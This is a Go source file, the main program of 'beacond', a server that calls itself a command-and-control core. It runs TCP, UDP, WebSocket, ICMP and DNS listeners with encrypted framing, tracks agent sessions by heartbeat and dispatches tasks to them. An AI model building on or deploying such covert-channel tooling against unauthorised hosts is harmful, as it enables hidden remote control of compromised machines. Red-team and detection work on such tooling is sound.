// Command beacond is the beacon core networking substrate server: it
// listens on up to five transports (TCP, UDP, WS, ICMP, DNS), maintains
// the session registry and task engine, and runs the 1Hz heartbeat and
// task-timeout sweepers. Console, HTTP management API, and agent-builder
// CLI are separate front-ends and are not this binary's concern.
package main

import (
	"context"
	"fmt"
	"net/http"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	"github.com/prometheus/client_golang/prometheus/promhttp"
	"github.com/spf13/cobra"
	"go.uber.org/zap"

	"github.com/duskrelay/beacon/internal/aead"
	"github.com/duskrelay/beacon/internal/config"
	"github.com/duskrelay/beacon/internal/fragment"
	"github.com/duskrelay/beacon/internal/listener"
	"github.com/duskrelay/beacon/internal/listener/dns"
	"github.com/duskrelay/beacon/internal/listener/icmp"
	"github.com/duskrelay/beacon/internal/listener/tcp"
	"github.com/duskrelay/beacon/internal/listener/udp"
	"github.com/duskrelay/beacon/internal/listener/ws"
	"github.com/duskrelay/beacon/internal/logging"
	"github.com/duskrelay/beacon/internal/metrics"
	"github.com/duskrelay/beacon/internal/scheduler"
	"github.com/duskrelay/beacon/internal/session"
	"github.com/duskrelay/beacon/internal/task"
)

var (
	version = "dev"
	commit  = "none"
	date    = "unknown"
)

type cliConfig struct {
	tcpAddr    string
	udpAddr    string
	wsAddr     string
	wsPath     string
	icmpAddr   string
	icmpOn     bool
	dnsAddr    string
	dnsZone    string
	dnsOn      bool
	healthAddr string
	logLevel   string
	ciphers    string
	heartbeat  time.Duration
	jitter     time.Duration
}

func main() {
	if err := newRootCmd().Execute(); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func newRootCmd() *cobra.Command {
	cfg := &cliConfig{}

	root := &cobra.Command{
		Use:   "beacond",
		Short: "beacond — multi-transport command-and-control core",
		Long: `beacond is the networking substrate for a command-and-control server.
It exposes TCP, UDP, WebSocket, ICMP, and DNS listeners over a shared
sealed-frame-and-fragment wire protocol, keeps agent sessions alive via
heartbeat, and dispatches tasks through a single transport-agnostic
engine.`,
		RunE: func(cmd *cobra.Command, args []string) error {
			return run(cmd.Context(), cfg)
		},
	}

	root.AddCommand(newVersionCmd())

	d := config.Default()
	root.PersistentFlags().StringVar(&cfg.tcpAddr, "tcp-addr", config.EnvOrDefault("BEACOND_TCP_ADDR", d.TCP.BindAddr), "TCP listener bind address")
	root.PersistentFlags().StringVar(&cfg.udpAddr, "udp-addr", config.EnvOrDefault("BEACOND_UDP_ADDR", d.UDP.BindAddr), "UDP listener bind address")
	root.PersistentFlags().StringVar(&cfg.wsAddr, "ws-addr", config.EnvOrDefault("BEACOND_WS_ADDR", d.WS.BindAddr), "WebSocket listener bind address")
	root.PersistentFlags().StringVar(&cfg.wsPath, "ws-path", config.EnvOrDefault("BEACOND_WS_PATH", d.WS.Path), "WebSocket upgrade path")
	root.PersistentFlags().BoolVar(&cfg.icmpOn, "icmp-enabled", config.EnvOrDefault("BEACOND_ICMP_ENABLED", "false") == "true", "enable the raw-socket ICMP listener (requires CAP_NET_RAW)")
	root.PersistentFlags().StringVar(&cfg.icmpAddr, "icmp-addr", config.EnvOrDefault("BEACOND_ICMP_ADDR", d.ICMP.BindAddr), "ICMP listener bind address")
	root.PersistentFlags().BoolVar(&cfg.dnsOn, "dns-enabled", config.EnvOrDefault("BEACOND_DNS_ENABLED", "false") == "true", "enable the DNS TXT listener")
	root.PersistentFlags().StringVar(&cfg.dnsAddr, "dns-addr", config.EnvOrDefault("BEACOND_DNS_ADDR", d.DNS.BindAddr), "DNS listener bind address")
	root.PersistentFlags().StringVar(&cfg.dnsZone, "dns-zone", config.EnvOrDefault("BEACOND_DNS_ZONE", d.DNS.Zone), "DNS zone this listener answers TXT queries under")
	root.PersistentFlags().StringVar(&cfg.healthAddr, "health-addr", config.EnvOrDefault("BEACOND_HEALTH_ADDR", d.HealthAddr), "bind address for /healthz and /metrics")
	root.PersistentFlags().StringVar(&cfg.logLevel, "log-level", config.EnvOrDefault("BEACOND_LOG_LEVEL", d.LogLevel), "log level (debug, info, warn, error)")
	root.PersistentFlags().StringVar(&cfg.ciphers, "ciphers", config.EnvOrDefault("BEACOND_CIPHERS", "aesgcm,chacha20poly1305"), "AEAD cipher preference, comma-separated (aesgcm, chacha20poly1305)")
	root.PersistentFlags().DurationVar(&cfg.heartbeat, "heartbeat-interval", d.HeartbeatInterval, "default heartbeat interval offered at registration")
	root.PersistentFlags().DurationVar(&cfg.jitter, "heartbeat-jitter", d.HeartbeatJitter, "default heartbeat jitter offered at registration")

	return root
}

func newVersionCmd() *cobra.Command {
	return &cobra.Command{
		Use:   "version",
		Short: "Print version information",
		Run: func(cmd *cobra.Command, args []string) {
			fmt.Printf("beacond %s (commit: %s, built: %s)\n", version, commit, date)
		},
	}
}

func run(ctx context.Context, cli *cliConfig) error {
	logger, err := logging.Build(cli.logLevel)
	if err != nil {
		return fmt.Errorf("failed to build logger: %w", err)
	}
	defer logger.Sync() //nolint:errcheck

	ciphers, err := parseCiphers(cli.ciphers)
	if err != nil {
		return err
	}

	cfg := config.Default()
	cfg.TCP.BindAddr = cli.tcpAddr
	cfg.UDP.BindAddr = cli.udpAddr
	cfg.WS.BindAddr = cli.wsAddr
	cfg.WS.Path = cli.wsPath
	cfg.ICMP.Enabled = cli.icmpOn
	cfg.ICMP.BindAddr = cli.icmpAddr
	cfg.DNS.Enabled = cli.dnsOn
	cfg.DNS.BindAddr = cli.dnsAddr
	cfg.DNS.Zone = cli.dnsZone
	cfg.HealthAddr = cli.healthAddr
	cfg.HeartbeatInterval = cli.heartbeat
	cfg.HeartbeatJitter = cli.jitter
	cfg.CipherPreference = ciphers

	if err := cfg.Validate(); err != nil {
		return fmt.Errorf("invalid configuration: %w", err)
	}

	logger.Info("starting beacond",
		zap.String("version", version),
		zap.String("tcp_addr", cfg.TCP.BindAddr),
		zap.String("udp_addr", cfg.UDP.BindAddr),
		zap.String("ws_addr", cfg.WS.BindAddr),
		zap.Bool("icmp_enabled", cfg.ICMP.Enabled),
		zap.Bool("dns_enabled", cfg.DNS.Enabled),
	)

	ctx, cancel := signal.NotifyContext(ctx, os.Interrupt, syscall.SIGTERM)
	defer cancel()

	// --- 1. Metrics ---
	m := metrics.New()

	// --- 2. Session registry, fragment reassembler, task engine ---
	sessions := session.New(logger, m)
	reassembler := fragment.New(m)

	listenerRegistry := listener.NewRegistry()
	dispatcher := &listener.TaskDispatcher{Sessions: sessions}
	engine := task.New(dispatcher, logger, m)

	hooks := listener.Hooks{
		OnConnect: func(agent *session.Agent) {
			logger.Info("agent connected", zap.String("agent_id", agent.ID.String()))
		},
		OnMessage: func(agent *session.Agent, payload []byte) {
			// Task result intake: the wire layer has already stripped AEAD
			// and framing by this point, so this hook only sees the
			// application-level result bytes for whatever task the agent
			// is currently running.
			for _, t := range engine.ListForAgent(agent.ID) {
				if t.State() == task.StateSent || t.State() == task.StateRunning {
					_ = engine.Complete(t.ID, payload)
					return
				}
			}
			logger.Warn("message from agent with no in-flight task",
				zap.String("agent_id", agent.ID.String()),
			)
		},
		OnDisconnect: func(agent *session.Agent) {
			logger.Info("agent disconnected", zap.String("agent_id", agent.ID.String()))
		},
	}

	// --- 3. Listeners ---
	if cfg.TCP.Enabled {
		listenerRegistry.Add(tcp.New(cfg.TCP, cfg.CipherPreference, cfg.HeartbeatInterval, cfg.HeartbeatJitter, sessions, hooks, logger))
	}
	if cfg.UDP.Enabled {
		listenerRegistry.Add(udp.New(cfg.UDP, cfg.CipherPreference, cfg.HeartbeatInterval, cfg.HeartbeatJitter, sessions, reassembler, hooks, logger))
	}
	if cfg.WS.Enabled {
		listenerRegistry.Add(ws.New(cfg.WS, cfg.CipherPreference, cfg.HeartbeatInterval, cfg.HeartbeatJitter, sessions, hooks, logger))
	}
	if cfg.ICMP.Enabled {
		listenerRegistry.Add(icmp.New(cfg.ICMP, cfg.CipherPreference, cfg.HeartbeatInterval, cfg.HeartbeatJitter, sessions, reassembler, hooks, logger))
	}
	if cfg.DNS.Enabled {
		listenerRegistry.Add(dns.New(cfg.DNS, cfg.CipherPreference, cfg.HeartbeatInterval, cfg.HeartbeatJitter, sessions, reassembler, hooks, logger))
	}

	for _, l := range listenerRegistry.All() {
		if err := l.Start(); err != nil {
			return fmt.Errorf("failed to start %s listener: %w", l.Kind(), err)
		}
	}
	defer func() {
		if err := listenerRegistry.StopAll(); err != nil {
			logger.Warn("listener shutdown error", zap.Error(err))
		}
	}()

	// --- 4. Sweepers ---
	sweeper, err := scheduler.New(sessions, engine, reassembler, func(agent *session.Agent) {
		hooks.OnDisconnect(agent)
	}, m, logger)
	if err != nil {
		return fmt.Errorf("failed to create scheduler: %w", err)
	}
	sweeper.Start()
	defer func() {
		if err := sweeper.Stop(); err != nil {
			logger.Warn("scheduler shutdown error", zap.Error(err))
		}
	}()

	// --- 5. Health/metrics mux ---
	mux := http.NewServeMux()
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusOK)
		_, _ = w.Write([]byte("ok"))
	})
	mux.Handle("/metrics", promhttp.HandlerFor(m.Registry, promhttp.HandlerOpts{}))

	healthSrv := &http.Server{
		Addr:         cfg.HealthAddr,
		Handler:      mux,
		ReadTimeout:  5 * time.Second,
		WriteTimeout: 5 * time.Second,
	}
	go func() {
		logger.Info("health/metrics server listening", zap.String("addr", cfg.HealthAddr))
		if err := healthSrv.ListenAndServe(); err != nil && err != http.ErrServerClosed {
			logger.Error("health server error", zap.Error(err))
			cancel()
		}
	}()

	// --- Wait for shutdown signal ---
	<-ctx.Done()
	logger.Info("shutting down beacond")

	shutdownCtx, shutdownCancel := context.WithTimeout(context.Background(), 15*time.Second)
	defer shutdownCancel()
	if err := healthSrv.Shutdown(shutdownCtx); err != nil {
		logger.Warn("health server graceful shutdown error", zap.Error(err))
	}

	logger.Info("beacond stopped")
	return nil
}

func parseCiphers(spec string) ([]byte, error) {
	var out []byte
	for _, name := range strings.Split(spec, ",") {
		switch strings.TrimSpace(strings.ToLower(name)) {
		case "aesgcm", "aes-gcm", "aes256gcm":
			out = append(out, aead.MagicAESGCM)
		case "chacha20poly1305", "chacha20-poly1305", "chacha20":
			out = append(out, aead.MagicChaCha20)
		default:
			return nil, fmt.Errorf("unrecognized cipher %q", name)
		}
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("cipher preference must not be empty")
	}
	return out, nil
}
